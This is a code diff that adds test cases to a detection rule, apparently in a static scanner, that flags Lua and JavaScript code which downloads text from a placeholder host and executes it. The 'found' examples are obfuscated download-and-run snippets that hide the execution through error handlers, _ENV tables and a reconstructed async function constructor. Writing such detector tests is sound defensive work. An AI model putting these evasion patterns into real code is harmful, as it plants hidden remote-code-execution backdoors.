@@ -32,6 +32,24 @@ export const runsDownloadedCode = defineRule({
   },
   examples: {
     found: [
+      lua(`PerformHttpRequest('https://a.example', function(_, text)
+^ local _, run = xpcall(error, load, text)
+  run()
+end)`),
+      lua(`PerformHttpRequest('https://a.example', function(_, text)
+^ xpcall(function() error(text) end, function(one) load(one)() end)
+end)`),
+      lua(`PerformHttpRequest('https://a.example', function(_, text)
+  local _, failure = pcall(function() error({ run = load, text = text }) end)
+^ failure.run(failure.text)()
+end)`),
+      lua(`local function ring(_ENV)
+^ dial('https://a.example', function(_, text) pickup(text)() end)
+end
+ring({ dial = PerformHttpRequest, pickup = load })`),
+      js(`const kind = Object.getPrototypeOf(async () => 1)
+const make = Object.values(Object.getOwnPropertyDescriptors(kind))[0].value
+^fetch('https://a.example').then(async (answer) => Reflect.construct(make, [await answer.text()])())`),
       lua(`local copy = {}
 for name, value in pairs({ ask = PerformHttpRequest, run = load }) do
   if not copy[name] then copy[name] = value end
@@ -87,6 +105,15 @@ end)`),
       ),
     ],
     notFound: [
+      lua(`PerformHttpRequest('https://a.example', function(_, text)
+  xpcall(function() error(text) end, function(one) print(one) end)
+end)`),
+      lua(`local function ring(_ENV)
+  dial('https://a.example', function(_, text) pickup(text) end)
+end
+ring({ dial = PerformHttpRequest, pickup = print })`),
+      js(`const list = Object.values(Object.getOwnPropertyDescriptors({ a: print }))[0].value
+fetch('https://a.example').then(async (answer) => list(await answer.text()))`),
       js(
         `const text = "importScripts('a.js')"
 new Worker(URL.createObjectURL(new Blob([text])))`,
